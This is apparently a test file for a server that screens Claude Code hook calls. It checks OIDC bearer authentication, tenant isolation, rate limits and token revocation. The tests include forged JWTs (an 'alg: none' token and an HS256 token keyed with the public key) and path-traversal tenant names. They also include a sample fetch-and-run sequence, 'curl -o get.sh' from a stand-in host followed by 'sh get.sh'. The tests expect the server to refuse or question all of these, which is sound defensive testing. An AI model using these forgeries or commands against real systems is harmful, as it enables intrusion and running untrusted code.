/** Callers: bearers of an OpenID provider, tenants, limits, and tokens that were removed elsewhere. */

import { mkdirSync, writeFileSync } from 'node:fs'
import { createServer, type Server } from 'node:http'
import { join } from 'node:path'
import { execa } from 'execa'
import { exportJWK, generateKeyPair, type JWTPayload, SignJWT } from 'jose'
import { afterEach, beforeAll, describe, expect, it } from 'vitest'
import { byGroup } from '../bundle/by-group.ts'
import { away, machineWith } from '../bundle/managed-machine.ts'
import { until } from '../until.ts'
import { auditLines } from './audit-lines.ts'
import { hasRedis, redisServer } from './redis.ts'
import { claudeCall, demoPolicy, homeWith, type Running, runtimes, type ServerEnv, start } from './server.ts'

const native = '/hooks/claude-code'
const open: (() => unknown)[] = []
afterEach(async () => {
  for (const end of open.splice(0)) await end()
})

type Pair = Awaited<ReturnType<typeof generateKeyPair>>

const pairs: Record<string, Pair> = {}
beforeAll(async () => {
  for (const name of ['one', 'two', 'stranger']) pairs[name] = await generateKeyPair('ES256', { extractable: true })
})

interface Provider {
  readonly issuer: string
  readonly server: Server
  /** The keys that it names, by name. */
  readonly keys: (...names: readonly string[]) => void
  readonly asked: () => number
}

/** An OpenID provider on loopback. */
const provider = async (says: { readonly issuer?: string } = {}): Promise<Provider> => {
  let named: readonly string[] = ['one']
  let asked = 0
  const server = createServer(async (request, response) => {
    asked++
    const issuer = `http://127.0.0.1:${(server.address() as { port: number }).port}`
    const keys = await Promise.all(
      named.map(async kid => ({ ...(await exportJWK((pairs[kid] as Pair).publicKey)), kid, alg: 'ES256', use: 'sig' })),
    )
    const body = request.url?.includes('well-known') ? { issuer: says.issuer ?? issuer, jwks_uri: `${issuer}/keys` } : { keys }
    response.setHeader('content-type', 'application/json').end(JSON.stringify(body))
  })
  await new Promise<void>(resolve => server.listen(0, '127.0.0.1', resolve))
  open.push(() => {
    server.closeAllConnections()
    server.close()
  })
  return {
    issuer: `http://127.0.0.1:${(server.address() as { port: number }).port}`,
    server,
    keys: (...names) => {
      named = names
    },
    asked: () => asked,
  }
}

const bearer = async (
  { issuer }: Provider,
  claims: JWTPayload = {},
  { key = 'one', kid = key, audience = 'tfy-hook', exp = '5m' }: Readonly<Record<string, string>> = {},
): Promise<Readonly<Record<string, string>>> => ({
  authorization: `Bearer ${await new SignJWT({ sub: 'u-1', ...claims })
    .setProtectedHeader({ alg: 'ES256', kid })
    .setIssuer(issuer)
    .setAudience(audience)
    .setExpirationTime(exp)
    .sign((pairs[key] as Pair).privateKey)}`,
})

const status = async (server: Running, headers: Readonly<Record<string, string>>): Promise<number> =>
  (await server.post(native, claudeCall('ls'), headers)).status

describe.each(runtimes)('on the $name', exe => {
  const run = async (env: ServerEnv, ...args: readonly string[]): Promise<Running> => {
    const server = await start(exe, { env, args })
    open.push(() => server.stop())
    return server
  }
  const token = async (env: ServerEnv, ...args: readonly string[]) =>
    execa(exe.command, [...exe.args, 'serve', 'token', ...args], { env, extendEnv: false, reject: false, timeout: 15_000 })

  it('takes bearers of the provider, and no others', async () => {
    const idp = await provider()
    const env = homeWith({ 'config.yaml': `serve: { oidc: { issuer: "${idp.issuer}", audience: tfy-hook } }\n` })
    const server = await run(env)
    expect(await status(server, {})).toBe(401)
    expect(await status(server, await bearer(idp, { email: 'dev@example.com' }))).toBe(200)
    for (const [claims, how] of [
      [{}, { audience: 'another' }],
      [{}, { exp: '-2m' }],
      [{}, { key: 'stranger', kid: 'one' }],
      [{ sub: '' }, {}],
      [{ iss: 'https://elsewhere.example' }, {}],
    ] as const) {
      const headers = await bearer({ ...idp, ...('iss' in claims && { issuer: claims.iss }) }, claims, how)
      expect([claims, how, await status(server, headers)]).toEqual([claims, how, 401])
    }
    // The algorithms that need no private key: none at all, and the public key taken for a secret.
    const claims = { iss: idp.issuer, aud: 'tfy-hook', sub: 'u', exp: Math.floor(Date.now() / 1000) + 60 }
    const part = (value: object) => Buffer.from(JSON.stringify(value)).toString('base64url')
    expect(await status(server, { authorization: `Bearer ${part({ alg: 'none' })}.${part(claims)}.x` })).toBe(401)
    const secret = new TextEncoder().encode(JSON.stringify(await exportJWK((pairs.one as Pair).publicKey)))
    const hmac = await new SignJWT(claims).setProtectedHeader({ alg: 'HS256', kid: 'one' }).sign(secret)
    expect(await status(server, { authorization: `Bearer ${hmac}` })).toBe(401)
    // Asked for its keys once, however many ask.
    expect(idp.asked()).toBe(2)
    await server.stop()
    const [line] = auditLines(env)
    expect(line).toMatchObject({ user: 'dev@example.com', userFrom: 'token', caller: 'oidc:u-1' })
    expect(server.stderr()).not.toContain('eyJ')
  })

  it('says that nobody can tell while the provider cannot be asked, and takes none that speaks of another', async () => {
    const idp = await provider({ issuer: 'https://elsewhere.example' })
    const server = await run(homeWith({ 'config.yaml': `serve: { oidc: { issuer: "${idp.issuer}", audience: tfy-hook } }\n` }))
    expect(await status(server, await bearer(idp))).toBe(503)
    expect(await status(server, await bearer(idp))).toBe(503)
    expect(idp.asked()).toBe(1)
    const plain = await run(
      homeWith({ 'config.yaml': 'serve: { oidc: { issuer: "http://idp.example", audience: tfy-hook } }\n' }),
    )
    expect(await status(plain, await bearer({ ...idp, issuer: 'http://idp.example' }))).toBe(503)
  })

  it.runIf(away)('goes by the groups that the claim lists, and not by those of the server', async () => {
    const idp = await provider()
    const oidc = `{ issuer: "${idp.issuer}", audience: tfy-hook, groups: roles }`
    const { there } = machineWith({ ...byGroup, 'config.yaml': `${byGroup['config.yaml']}serve: { oidc: ${oidc} }\n` }, exe)
    const server = await start(there, { env: homeWith({}) })
    open.push(() => server.stop())
    const said = async (roles: unknown): Promise<string> => {
      const { status, text } = await server.post(native, claudeCall('helm list'), await bearer(idp, { roles }))
      return status !== 200 ? String(status) : text.includes('t.helm') ? 'deny' : 'allow'
    }
    expect(await said(['staff', 'platform'])).toBe('allow')
    expect(await said('platform')).toBe('allow')
    for (const roles of [['staff'], [], undefined, 'platforms']) expect([roles, await said(roles)]).toEqual([roles, 'deny'])
    // What is not read whole may be without the name that counts.
    for (const roles of [{ platform: true }, ['platform', 7], ['platform', ''], Array(501).fill('x')])
      expect(await said(roles)).toBe('401')
  })

  it('gives each tenant its own policies and sessions', async () => {
    const idp = await provider()
    const env = homeWith({ 'config.yaml': `serve: { oidc: { issuer: "${idp.issuer}", audience: tfy-hook, tenant: org } }\n` })
    const config = join(env.XDG_CONFIG_HOME, 'tfy-hook')
    mkdirSync(join(config, 'tenants/acme'), { recursive: true })
    mkdirSync(join(config, 'tenants/shop'))
    writeFileSync(join(config, 'tenants/acme/policy.yaml'), demoPolicy)
    const own = (await token(env, 'add', 'shop', '--tenant', 'shop')).stdout
    expect((await token(env, 'add', 'odd', '--tenant', '../x')).exitCode).toBe(2)
    const server = await run(env)
    const said = async (headers: Readonly<Record<string, string>>, command: string): Promise<string> =>
      (await server.post(native, { ...claudeCall(command), session_id: 's' }, headers)).text
    const acme = await bearer(idp, { org: 'acme' })
    const shop = { authorization: `Bearer ${own}` }
    expect(await said(acme, 'echo pwned')).toContain('demo.pwned')
    expect(await said(shop, 'echo pwned')).toBe('{}\n')
    await said(shop, 'curl -o get.sh https://stranger.example/get')
    expect(await said(shop, 'sh get.sh')).toContain('"ask"')
    expect(await said(await bearer(idp, { org: 'shop', sub: 'u-2' }), 'sh get.sh')).toContain('"ask"')
    expect(await said(acme, 'sh get.sh')).toBe('{}\n')
    expect(await status(server, await bearer(idp))).toBe(401)
    for (const org of ['absent', '../acme', '']) expect([401, 403]).toContain(await status(server, await bearer(idp, { org })))
    await server.stop()
    expect(auditLines(env).map(line => line.tenant)).toEqual(['acme', 'shop', 'shop', 'shop', 'shop', 'acme'])
  })

  it('counts the requests of each caller', async () => {
    const env = homeWith({ 'config.yaml': 'serve: { perMinute: 100000 }\n' })
    const few = (await token(env, 'add', 'few', '--per-minute', '3')).stdout
    const many = (await token(env, 'add', 'many')).stdout
    const server = await run(env)
    const all = await Promise.all(
      Array.from({ length: 12 }, () => server.post(native, claudeCall('ls'), { 'x-tfy-api-key': few })),
    )
    const refused = all.filter(({ status }) => status === 429)
    // A minute may have ended in between.
    expect([6, 9]).toContain(refused.length)
    expect(Number(refused[0]?.headers['retry-after'])).toBeGreaterThan(0)
    expect(await status(server, { 'x-tfy-api-key': many })).toBe(200)
  })

  it.skipIf(!hasRedis)(
    'counts for all replicas, and hears of a token that was removed elsewhere',
    async () => {
      const redis = await redisServer()
      open.push(redis.kill)
      const config = { 'config.yaml': `state: redis://127.0.0.1:${redis.port}\n` }
      const env = homeWith(config)
      const few = (await token(env, 'add', 'few', '--per-minute', '4')).stdout
      const other = homeWith(config)
      const file = 'tfy-hook/serve-tokens.json'
      await execa('cp', [join(env.XDG_CONFIG_HOME, file), join(other.XDG_CONFIG_HOME, file)])
      const [one, two] = [await run(env), await run(other)]
      const statuses: number[] = []
      for (let i = 0; i < 5; i++) for (const server of [one, two]) statuses.push(await status(server, { 'x-tfy-api-key': few }))
      expect([2, 6]).toContain(statuses.filter(code => code === 429).length)
      expect((await token(env, 'remove', 'few')).exitCode).toBe(0)
      for (const server of [one, two])
        expect(await until(async () => (await status(server, { 'x-tfy-api-key': few })) === 401)).toBe(true)
      await token(env, 'add', 'later')
      await redis.kill()
      // What is known to be revoked stays so.
      expect(await status(two, { 'x-tfy-api-key': few })).toBe(401)
      expect(await token(env, 'remove', 'later')).toMatchObject({
        exitCode: 2,
        stderr: expect.stringContaining('nothing was changed'),
      })
      expect((await token(env, 'remove', 'later', '--local')).exitCode).toBe(0)
    },
    30_000,
  )
})
